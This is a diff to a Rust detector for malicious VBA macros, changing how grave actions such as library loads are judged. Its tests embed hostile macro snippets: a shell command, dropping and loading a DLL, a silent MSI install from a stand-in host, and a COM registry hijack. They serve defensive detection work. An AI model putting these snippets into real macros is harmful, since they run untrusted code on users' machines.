@@ -7,7 +7,7 @@
 
 use crate::detections::Detection;
 use crate::finding::{Evidence, FindingKind, Level, Observation};
-use crate::languages::vba::{is_data_file, is_program};
+use crate::languages::vba::{is_data_file, is_passing};
 use crate::languages::{Action, ActionKind, Behaviour, Language, Place};
 use crate::order;
 use crate::view::{Reads, View};
@@ -46,33 +46,50 @@ fn find(view: &View<'_>, found: &mut Vec<Observation>) {
     } else if let Some(trigger) = behaviour.triggers.iter().find(|trigger| trigger.automatic) {
         let with = |place: &Place| Observation::new(&AUTO_RUN, evidence(place)).with("trigger", &trigger.name);
         found.extend(behaviour.triggers.iter().filter(|trigger| trigger.automatic).map(|trigger| with(&trigger.place)));
-    } else if let Some(action) =
-        behaviour.actions.iter().filter(|action| action.kind.is_grave()).max_by_key(|action| action.kind)
-    {
-        let with = |place: &Place| Observation::new(&ACTS, evidence(place)).with("action", action.kind.id());
-        found
-            .extend(behaviour.actions.iter().filter(|action| action.kind.is_grave()).map(|action| with(&action.place)));
-        found.extend(resolved(action).map(|place| with(&place)));
-    } else {
+        // A button beside it, or an event that what starts waits for.
+        acts(behaviour, found);
+    } else if !acts(behaviour, found) {
         found.extend(behaviour.modules.iter().map(|place| Observation::new(&PRESENT, evidence(place))));
     }
 }
 
+/// Says what the macro does that no document should, whoever starts it; whether there is any.
+fn acts(behaviour: &Behaviour, found: &mut Vec<Observation>) -> bool {
+    let actions = || behaviour.actions.iter().filter(|action| action.kind.is_grave());
+    let Some(gravest) = actions().max_by_key(|action| action.kind) else { return false };
+    let with = |place: &Place| Observation::new(&ACTS, evidence(place)).with("action", gravest.kind.id());
+    found.extend(actions().map(|action| with(&action.place)));
+    found.extend(resolved(gravest).map(|place| with(&place)));
+    true
+}
+
 /// Actions that no document should do when it is opened. Fetching counts beside a call site, reached too, that could
 /// store or start what was fetched: not beside one that is known to store only data (a log, a table). Loading a library
-/// counts beside one that writes a program.
+/// counts if the macro itself put it there, or if it lies where only passing things do.
 fn grave(behaviour: &Behaviour) -> impl Iterator<Item = &Action> {
     let reached = behaviour.actions.iter().filter(|action| action.reached_by.is_some());
     let stores = reached.clone().any(|action| match action.kind {
         ActionKind::Write => !is_data_file(&action.detail),
         kind => matches!(kind, ActionKind::Download | ActionKind::Load),
     });
-    let drops = reached.clone().any(|action| action.kind == ActionKind::Write && is_program(&action.detail));
+    let puts: Vec<String> = reached
+        .clone()
+        .filter(|action| action.kind == ActionKind::Write)
+        .filter_map(|action| file_name(&action.detail))
+        .collect();
     reached.filter(move |action| match action.kind {
         ActionKind::Fetch => stores,
-        ActionKind::Load => drops,
+        ActionKind::Load => {
+            is_passing(&action.detail) || file_name(&action.detail).is_some_and(|name| puts.contains(&name))
+        }
         kind => kind.is_grave(),
     })
+}
+
+/// The name of a file without its folders, lower case, where all of it is known.
+fn file_name(path: &str) -> Option<String> {
+    let name = path.trim().rsplit(['\\', '/']).next().unwrap_or_default().to_lowercase();
+    (name.contains('.') && !name.contains('…')).then_some(name)
 }
 
 /// What the call site is given, where its line does not say so: the text that concatenation and `Chr` hide.
@@ -122,6 +139,12 @@ mod tests {
     }
 
     #[test]
+    fn what_a_button_does_is_told_beside_what_starts() {
+        let menu = "Sub Auto_Open()\nRange(\"A1\").Select\nEnd Sub\nSub Button()\nShell \"cmd /c x\"\nEnd Sub";
+        assert_eq!(ids(ModuleKind::Standard, menu), ["vba.auto-run", "vba.acts"]);
+    }
+
+    #[test]
     fn code_that_writes_code_is_stop_by_itself_and_hold_by_hand() {
         let code = "ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString t\nEnd Sub";
         assert_eq!(ids(ModuleKind::Standard, &format!("Sub AutoOpen()\n{code}")), ["vba.auto-run-acts"]);
@@ -153,15 +176,33 @@ mod tests {
     }
 
     #[test]
-    fn a_library_is_loaded_beside_the_program_that_was_written() {
-        let declare = "Declare PtrSafe Function LoadLibraryA Lib \"kernel32\" (ByVal n As String) As LongPtr\n";
-        let of = |body: &str| ids(ModuleKind::Standard, &format!("{declare}Sub Auto_Open()\n{body}End Sub"));
-        let write = "Open Environ(\"APPDATA\") & \"\\a.dll\" For Binary As #1\nPut #1, , b\nClose\n";
-        let load = "LoadLibraryA Environ(\"APPDATA\") & \"\\a.dll\"\n";
-        assert_eq!(of(&format!("{write}{load}")), ["vba.auto-run-acts"]);
-        // What add-ins do with a library that lies beside them, and a tool that stores a table.
-        assert_eq!(of(load), ["vba.auto-run"]);
-        assert_eq!(of(&format!("Open \"a.csv\" For Output As #1\n{load}")), ["vba.auto-run"]);
+    fn a_library_that_the_macro_puts_there_is_stop() {
+        let declare = "Declare Function Go Lib \"C:\\ProgramData\\x.ocx\" () As Long\n\
+                       Declare Function LoadLibrary Lib \"kernel32\" Alias \"LoadLibraryA\" (ByVal p As String) As Long\n";
+        let of = |body: &str| ids(ModuleKind::Standard, &format!("{declare}Sub Auto_Open()\n{body}\nEnd Sub"));
+        assert_eq!(
+            of("FileCopy ThisWorkbook.Path & \"\\x.dat\", \"C:\\ProgramData\\x.ocx\"\nGo"),
+            ["vba.auto-run-acts"]
+        );
+        let dropped = "Open Environ(\"TEMP\") & \"\\x.dll\" For Binary As 1\nPut 1, , b\nClose 1\n";
+        assert_eq!(of(&format!("{dropped}LoadLibrary Environ(\"TEMP\") & \"\\x.dll\"")), ["vba.auto-run-acts"]);
+        assert_eq!(of("Application.RegisterXLL Environ(\"TEMP\") & \"\\x.xll\""), ["vba.auto-run-acts"]);
+        // A library of the company's own, and a log.
+        assert_eq!(of("Go"), ["vba.auto-run"]);
+        let log = "Open ThisWorkbook.Path & \"\\\" & n For Output As 1\n";
+        assert_eq!(of(&format!("{log}LoadLibrary ThisWorkbook.Path & \"\\sqlite3.dll\"")), ["vba.auto-run"]);
+        assert_eq!(of("Application.RegisterXLL ThisWorkbook.Path & \"\\tools.xll\""), ["vba.auto-run"]);
+    }
+
+    #[test]
+    fn installing_and_taking_the_place_of_a_part_of_windows_is_stop() {
+        let of = |body: &str| ids(ModuleKind::Standard, &format!("Sub Auto_Open()\n{body}\nEnd Sub"));
+        let installer = "Set i = CreateObject(\"WindowsInstaller.Installer\")\ni.UILevel = 2\ni.InstallProduct ";
+        assert_eq!(of(&format!("{installer}\"http://a.example/x.msi\"")), ["vba.auto-run-acts"]);
+        let key = "HKCU\\Software\\Classes\\CLSID\\{42aedc87-2188-41fd-b9a3-0c966feabec1}\\InprocServer32\\";
+        let write = format!("CreateObject(\"WScript.Shell\").RegWrite \"{key}\", \"C:\\x.dll\", \"REG_SZ\"");
+        assert_eq!(of(&write), ["vba.auto-run-acts"]);
+        assert_eq!(of(&write.replace(key, "HKCU\\Software\\Tool\\Colour")), ["vba.auto-run"]);
     }
 
     #[test]
